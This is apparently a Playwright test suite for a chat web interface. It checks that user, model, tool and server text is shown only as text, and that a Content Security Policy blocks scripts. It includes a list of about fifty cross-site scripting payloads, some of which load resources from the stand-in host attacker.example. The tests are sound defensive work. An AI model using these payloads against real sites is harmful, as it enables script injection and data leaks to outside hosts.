"""Tests against injection: no text from the user, the model or the server becomes markup, runs, or
makes the browser contact another server.
"""

import json

import pytest
from playwright.sync_api import expect

pytestmark = pytest.mark.slow

HOST = "attacker.example"
CALL = "window.hacked=1"
PAYLOADS = [
    f"<script>{CALL}</script>",
    f"<ScRiPt>{CALL}</sCrIpT>",
    f"<script src=//{HOST}/x.js></script>",
    f"<script type=module>import 'https://{HOST}/x.js'</script>",
    f"<img src=x onerror={CALL}>",
    f"<img src=https://{HOST}/pixel.png>",
    f"<img srcset='https://{HOST}/a.png 2x'>",
    f"<svg onload={CALL}>",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><image href=https://{HOST}/x.svg /></svg>",
    f"<svg><use href=data:image/svg+xml,<svg id=x onload={CALL}>#x />",
    f"<iframe src=javascript:{CALL}></iframe>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>",
    f"<iframe src=https://{HOST}/></iframe>",
    f"<object data=javascript:{CALL}></object>",
    f"<object data=https://{HOST}/x.swf></object>",
    f"<embed src=javascript:{CALL}>",
    f"<a href=javascript:{CALL} autofocus onfocus={CALL}>click</a>",
    f"[click](javascript:{CALL})",
    f"![image](https://{HOST}/markdown.png)",
    f"![x](x){{onerror={CALL}}}",
    f"<https://{HOST}/auto>",
    f"<body onload={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}>",
    f"<textarea autofocus onfocus={CALL}>",
    f"<details open ontoggle={CALL}>",
    f"<video src=x onerror={CALL}></video>",
    f"<video poster=https://{HOST}/poster.png></video>",
    f"<audio src=https://{HOST}/a.ogg autoplay></audio>",
    f"<source onerror={CALL}>",
    f"<marquee onstart={CALL}>",
    f"<form action=https://{HOST}/ ><button autofocus>go</button></form>",
    f"<button form=composer formaction=javascript:{CALL}>x</button>",
    f"<meta http-equiv=refresh content='0;url=https://{HOST}/'>",
    f"<base href=https://{HOST}/>",
    f"<link rel=stylesheet href=https://{HOST}/x.css>",
    f"<link rel=prefetch href=https://{HOST}/next>",
    f"<style>@import 'https://{HOST}/x.css';*{{background:url(https://{HOST}/b.png)}}</style>",
    f"<div style=\"background:url('https://{HOST}/bg.png')\">x</div>",
    f"<div onpointerover={CALL} style=position:fixed;inset:0>x</div>",
    f"<template><script>{CALL}</script></template>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f'<noscript><p title="</noscript><img src=x onerror={CALL}>">',
    f'"><script>{CALL}</script>',
    f"'-{CALL}-'",
    f"```html\n<script>{CALL}</script>\n<img src=https://{HOST}/code.png>\n```",
    f'```"><img src=x onerror={CALL}>\ncode\n```',
    f"</div></article><script>{CALL}</script>\u202e\u0000&lt;script&gt;{CALL}&lt;/script&gt;",
]
PLAIN_TAGS = {"DIV", "ARTICLE", "SPAN", "PRE", "CODE", "BUTTON", "P"}
UNDER_LOG = "[...new Set([...document.querySelectorAll('.turn, .turn *')].map((e) => e.tagName))]"


def joined(size):
    """Return the payloads in texts of `size` payloads each.

    Payloads that begin a code block stay alone, since later ones would be inside that block.
    """
    plain = [payload for payload in PAYLOADS if "```" not in payload]
    groups = ["\n".join(plain[at : at + size]) for at in range(0, len(plain), size)]
    return groups + [payload for payload in PAYLOADS if "```" in payload]


def test_at_least_fifty_different_payloads():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 50


@pytest.mark.parametrize("size", [10, pytest.param(1, marks=pytest.mark.full)])
def test_prompts_are_shown_as_text(visit, size, scale):
    visit.settings(max_tokens="1")
    for payload in joined(size)[:: scale(3, 1)]:
        visit.click("#new-chat")  # together they would exceed the model's context
        visit.ask(payload)
        assert visit.answer().locator(".question").evaluate("(e) => e.textContent") == payload
        _untouched(visit, 1)


@pytest.mark.parametrize("size", [10, pytest.param(1, marks=pytest.mark.full)])
def test_answers_are_shown_as_text(visit, size):
    visit.route("**/v1/chat/completions", _echo)
    for number, payload in enumerate(joined(size), start=1):
        visit.ask(payload)
        shown = visit.answer().locator(".answer-body").evaluate("(e) => e.textContent")
        if "```" not in payload:
            assert shown == payload
        _untouched(visit, number)


def test_reasoning_tool_calls_and_results_are_shown_as_text(stand_in, scale):
    """One answer contains all calls; the next answer repeats them after the results."""
    page = stand_in()
    payloads = PAYLOADS[:: scale(5, 1)]
    page.ask("Hello")
    thought = "\n".join(PAYLOADS)
    turn = page.locator(".turn")

    def texts(selector):
        return turn.locator(selector).evaluate_all("(all) => all.map((one) => one.textContent)")

    page.asked(1)
    page.deltas({"reasoning_content": thought})
    for number, payload in enumerate(payloads):
        page.call(payload, payload, index=number)
    page.end("tool_calls")
    assert texts(".reasoning .text") == [thought]
    assert texts(".call .code-head code") == texts(".call pre") == payloads
    assert texts(".call label span") == [f"Result of {payload}" for payload in payloads]
    fill = (
        "(all, texts) => all.forEach((one, at) => { one.value = texts[at]; one.dispatchEvent(new "
        "Event('input')); })"
    )
    turn.locator(".call textarea").evaluate_all(fill, payloads)
    turn.get_by_role("button", name="Send results").click()
    page.asked(2)
    for number, payload in enumerate(payloads):
        page.call(payload, json.dumps({payload: payload}), index=number)
    page.end("tool_calls")
    assert texts(".call .result pre") == payloads
    for payload, shown in zip(payloads, texts(".call pre")[-len(payloads) :], strict=True):
        assert json.loads(shown) == {payload: payload}
    _untouched(page.visit, 1, {"DETAILS", "SUMMARY", "LABEL", "TEXTAREA"})


@pytest.mark.full
def test_other_server_text_is_shown_as_text(visit, live_server):
    visit.expected_failures = ("400",)
    visit.serve("**/v1/models", {"data": [{"id": PAYLOADS[4]}]})
    error = {"error": {"message": PAYLOADS[0], "code": PAYLOADS[7]}}
    headers = {"x-request-id": PAYLOADS[5]}
    visit.route(
        "**/v1/chat/completions",
        lambda route: route.fulfill(status=400, json=error, headers=headers),
    )
    bad = dict.fromkeys(
        ("running", "waiting", "hit_rate", "generated_tokens_total", "num_blocks"), PAYLOADS[4]
    )
    visit.serve("**/v1/blocks", {**bad, "states": "", "block_size": 16})
    visit.reload()
    visit.shows("#model", PAYLOADS[4])
    visit.shows("#running", "–")
    visit.ask("Hello")
    turn = visit.answer("failed")
    expect(turn.locator(".said")).to_have_text(PAYLOADS[0])
    expect(turn.locator(".error code")).to_have_text(PAYLOADS[5])
    _untouched(visit, 1)


@pytest.mark.full
def test_models_and_presets_are_shown_as_text(visit):
    """The names appear in the models view, the palette, the confirmation and the settings."""
    names = [payload.replace("\u0000", "") for payload in PAYLOADS]
    rows = [
        {"id": name, "state": "not_loaded", "failure": name, "managed": True, "meta": None}
        for name in names
    ]
    said = {"allowed": True, "reason": names[0]}
    visit.serve("**/v1/models", {"data": rows, "changes": said})
    line = json.dumps({"error": names[4]}) + "\n"
    visit.route("**/api/pull", lambda route: route.fulfill(body=line))
    kept = [{"name": name, "texts": {"system": name}} for name in names if len(name) <= 60]
    visit.evaluate("(text) => localStorage.setItem('presets', text)", json.dumps(kept))
    visit.reload()
    visit.click("nav [data-view=models]")
    visit.expects(".model-row").to_have_count(len(names))
    texts = "(all) => all.map((one) => one.textContent)"
    assert visit.locator(".model-name").evaluate_all(texts) == names
    assert visit.locator(".model-row .field-error").evaluate_all(texts) == names
    visit.fill("#pull-name", names[4])
    visit.keyboard.press("Enter")
    expect(visit.locator("#pull-view .said")).to_have_text(names[4])
    visit.locator(".model-row").nth(4).get_by_role("button", name="Delete").click()
    visit.expects("#confirm-text").to_contain_text(names[4])
    visit.keyboard.press("Escape")
    visit.keyboard.press("Control+k")
    shown = visit.locator("#palette-list .command-detail").evaluate_all(texts)
    assert set(names[1:]) | {one["name"] for one in kept} <= set(shown)
    visit.keyboard.press("Escape")
    visit.click("nav [data-view=settings]")
    assert [one["name"] for one in sorted(kept, key=lambda one: one["name"])] == sorted(
        visit.locator("#preset optgroup[label=Yours] option").evaluate_all(texts)
    )
    page = "[...new Set([...document.querySelectorAll('main *, dialog *')].map((e) => e.tagName))]"
    assert not set(visit.evaluate(page)) & {"IMG", "SCRIPT", "IFRAME", "SVG", "A", "STYLE"}
    assert visit.evaluate("window.hacked") is None


@pytest.mark.full
def test_requests_are_shown_as_text(visit):
    visit.evaluate("document.body.classList.add('several')")  # so that rows name their model
    texts = ("request_id", "cause", "field", "field_before", "compared_with", "model")
    listed = [
        dict.fromkeys(texts, payload)
        | {
            "at": number,
            "prompt_tokens": payload,
            "computed_tokens": payload,
            "seconds": payload,
            "position": payload,
        }
        | {"hit_tokens": {payload: 7}, "evicted_from": [payload], "normalised": [payload]}
        | {"text": payload, "text_before": PAYLOADS[number - 1]}
        for number, payload in enumerate(PAYLOADS)
    ]
    visit.serve("**/v1/requests", {"data": listed, "kept_seconds": 60})
    asked = []  # answered in the order in which they are opened

    def answer(route):
        asked.append(route.request.url)
        route.fulfill(json=listed[len(asked) - 1])

    visit.route("**/v1/requests/**", answer)
    visit.click("nav button[data-view=requests]")
    rows = visit.locator(".prompt")
    expect(rows).to_have_count(len(PAYLOADS))
    rows.locator(".prompt-row").evaluate_all("(all) => all.forEach((one) => one.click())")
    expect(rows.locator(".facts code")).to_have_count(len(PAYLOADS))
    texts = "(all) => all.map((one) => one.textContent)"
    assert sorted(rows.locator(".facts code").evaluate_all(texts)) == sorted(PAYLOADS)
    shown = rows.evaluate_all(
        "(all) => all.map((row) => [...row.querySelectorAll('figure pre')].at(-1).textContent)"
    )
    assert sorted(shown) == sorted(
        payload.replace("\u202e", "⟨U+202E⟩").replace("\u0000", "⟨U+0000⟩") for payload in PAYLOADS
    )
    assert all(url.startswith(f"{visit.origin}/v1/requests/") for url in asked)
    tags = "[...new Set([...document.querySelectorAll('#requests *')].map((e) => e.tagName))]"
    plain = {"H2", "OL", "UL", "LI", "DL", "DT", "DD", "DEL", "INS", "FIGURE", "FIGCAPTION"}
    assert set(visit.evaluate(tags)) <= PLAIN_TAGS | plain
    assert visit.evaluate("window.hacked") is None
    assert visit.url.rstrip("/") == visit.origin


@pytest.mark.full
def test_statistics_of_the_wrong_type_are_shown_as_text(visit, answering):
    bad = PAYLOADS[4]
    usage = {
        "prompt_tokens": bad,
        "completion_tokens": bad,
        "prompt_tokens_details": {"cached_tokens": bad},
    }
    told = {"approximate": bad, "reused_span_tokens": [bad, 7], "recomputed_tokens": bad}
    for kvboost in ({"miss_reason": bad, **told}, {**told, "reused_span_tokens": 7}):
        answering(
            visit,
            "x",
            usage=usage,
            timings={"predicted_n": bad, "predicted_ms": bad},
            kvboost=kvboost,
        )
        visit.ask("Hello")
        visit.answer()
    _untouched(visit, 2)


def test_the_content_security_policy_blocks_scripts(visit):
    visit.expected_failures = ("Content Security Policy", "Trusted", "violates")
    refused = visit.evaluate(
        f"""() => {{
          const tried = [
            () => {{ document.body.innerHTML = '<p>x</p>'; }},
            () => {{ document.body.insertAdjacentHTML('beforeend', '<p>x</p>'); }},
            () => {{ document.createElement('iframe').srcdoc = '<p>x</p>'; }},
            () => {{ document.createElement('script').text = '{CALL}'; }},
          ];
          const outcome = (attempt) => {{ try {{ attempt(); return 'done'; }} catch (error) {{ return error.name; }} }};
          return tried.map(outcome);
        }}"""
    )
    assert refused == ["TypeError"] * 4
    failures = []
    visit.on("requestfailed", lambda request: failures.append(request.failure))
    outcome = visit.evaluate(
        f"""async () => {{
          const image = document.createElement('img');
          const failed = new Promise((done) => {{
            image.onerror = () => done('refused');
            image.onload = () => done('loaded');
          }});
          image.src = 'https://{HOST}/pixel.png';
          document.body.append(image);
          const asked = await fetch('https://{HOST}/').then(() => 'asked', () => 'refused');
          return [await failed, asked];
        }}"""
    )
    assert outcome == ["refused", "refused"]
    assert "csp" in failures  # blocked before anything was sent
    visit.foreign.clear()
    assert visit.evaluate("window.hacked") is None


def _echo(route):
    """Answer a chat request with its last message, in pieces of three characters."""
    text = json.loads(route.request.post_data)["messages"][-1]["content"]
    pieces = [
        {"choices": [{"delta": {"content": text[at : at + 3]}}]} for at in range(0, len(text), 3)
    ]
    body = "".join(f"data: {json.dumps(piece)}\n\n" for piece in pieces) + "data: [DONE]\n\n"
    route.fulfill(content_type="text/event-stream", body=body)


def _untouched(visit, turns, more_tags=frozenset()):
    """Check the number of turns, that only the page's own elements exist, and that no script ran.

    The fixture `visiting` checks requests and dialogs.
    """
    assert visit.count(".turn") == turns
    assert set(visit.evaluate(UNDER_LOG)) <= PLAIN_TAGS | more_tags
    attributes = visit.evaluate(
        "[...new Set([...document.querySelectorAll('.turn *')].flatMap((e) => "
        "e.getAttributeNames()))]"
    )
    assert not [
        name
        for name in attributes
        if name.startswith("on") or name in ("href", "src", "srcset", "action")
    ]
    assert visit.evaluate("window.hacked") is None
    assert visit.url.rstrip("/") == visit.origin
